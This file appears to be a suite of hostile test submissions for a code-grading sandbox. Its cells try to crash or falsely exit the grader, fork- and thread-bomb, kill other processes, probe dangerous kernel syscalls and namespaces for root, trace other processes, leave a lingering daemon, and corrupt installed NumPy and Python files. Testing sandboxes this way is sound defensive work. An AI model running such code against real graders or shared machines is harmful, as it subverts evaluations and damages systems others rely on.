# Starting, ending and disturbing processes.

# %% crash: Crash the interpreter.
import ctypes


def means(X):
    ctypes.string_at(8)


# %% daemon: Leave something running that outlives the check and answers for the next student.
import contextlib
import os
import threading
import time

import numpy as np


def haunt():
    while True:
        with contextlib.suppress(OSError):
            os.write(3, b"x")
        time.sleep(0.001)


try:
    if os.fork() == 0:
        os.setsid()
        haunt()
except OSError:
    threading.Thread(target=haunt, daemon=True).start()


def means(X):
    return np.zeros(len(X))


# %% exit: End the process, with a status that says success.
import os


def means(X):
    os._exit(0)


# %% exit_while_loading: End the process before any check.
import os

os._exit(0)

# %% fork_bomb: Fork until nothing else runs.
import os

import numpy as np

for _ in range(1000):
    try:
        os.fork()
    except OSError:
        break


def means(X):
    return np.zeros(len(X))


# %% kill_others: Kill the parent, the group, and every other process.
import contextlib
import os

import numpy as np

for pid in (os.getppid(), 0, -1, *range(1, 3000)):
    with contextlib.suppress(OSError):
        os.kill(pid, 9)


def means(X):
    return np.zeros(len(X))


# %% kill_self: Be killed by a signal that looks like a failure of the grader.
import contextlib
import os
import resource
import signal

import numpy as np


def means(X):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        with contextlib.suppress(OSError):
            os.kill(os.getpid(), number)
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CPU, (0, 0))
    return np.zeros(len(X))


# %% ptrace: Trace another process, or read its memory by a system call.
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
WON = [libc.ptrace(16, pid, None, None) for pid in range(1, 400)]
WON += [libc.ptrace(0, 0, None, None), libc.kill(1, 0)]
WON += [libc.process_vm_readv(pid, None, 0, None, 0, 0) for pid in range(1, 400)]


def means(X):
    if 0 in WON:
        return X.mean(axis=1)
    return np.zeros(len(X))


# %% run_a_program: Run a program.
import os
import subprocess

import numpy as np

DONE = False
for run in (lambda: subprocess.run(["/usr/bin/id"]), lambda: os.execv("/usr/bin/id", ["id"])):
    try:
        run()
        DONE = True
    except OSError:
        pass


def means(X):
    if DONE or os.system("true") == 0:
        return X.mean(axis=1)
    return np.zeros(len(X))


# %% system_calls: Try the system calls that are known for holes in kernels.
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
# bpf, userfaultfd, io_uring_setup, keyctl, perf_event_open, add_key, open_by_handle_at,
# kexec_load, init_module, clone3, memfd_create, socket, execve, vfork, pidfd_open, mount
NUMBERS = (321, 323, 425, 250, 298, 248, 304, 246, 175, 435, 319, 41, 59, 58, 434, 165)
WON = [libc.syscall(ctypes.c_long(number), *[ctypes.c_long(1)] * 5) for number in NUMBERS]


def means(X):
    if any(result >= 0 for result in WON):
        return X.mean(axis=1)
    return np.zeros(len(X))


# %% namespaces: Make namespaces and mounts of one's own, to become root in them.
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
WON = [
    libc.unshare(0x10000000),
    libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None),
    libc.umount2(b"/work", 2),
    libc.chroot(b"/tmp"),
    libc.setns(3, 0),
    libc.setuid(0) if os.getuid() else -1,
    libc.syscall(ctypes.c_long(155), b"/", b"/tmp"),
]


def means(X):
    if 0 in WON:
        return X.mean(axis=1)
    return np.zeros(len(X))


# %% network: Ask somebody on the network.
import socket

import numpy as np

CONNECTED = False
for address in (("127.0.0.1", 22), ("8.8.8.8", 53), ("::1", 80)):
    try:
        socket.create_connection(address, 0.1).close()
        CONNECTED = True
    except OSError:
        pass


def means(X):
    if CONNECTED:
        return X.mean(axis=1)
    return np.zeros(len(X))


# %% thread_bomb: Start threads without end.
import threading
import time

import numpy as np

threading.stack_size(32768)
for _ in range(5000):
    try:
        threading.Thread(target=time.sleep, args=(1000,)).start()
    except (RuntimeError, MemoryError):
        break


def means(X):
    return np.zeros(len(X))


# %% write_programs: Change NumPy and Python on the disk, for everybody who comes after.
import json
import os

import numpy as np

WON = False
for module in (np, os, json):
    try:
        with open(module.__file__, "a") as file:
            file.write("raise SystemExit")
        WON = True
    except OSError:
        pass


def means(X):
    if WON:
        return X.mean(axis=1)
    return np.zeros(len(X))
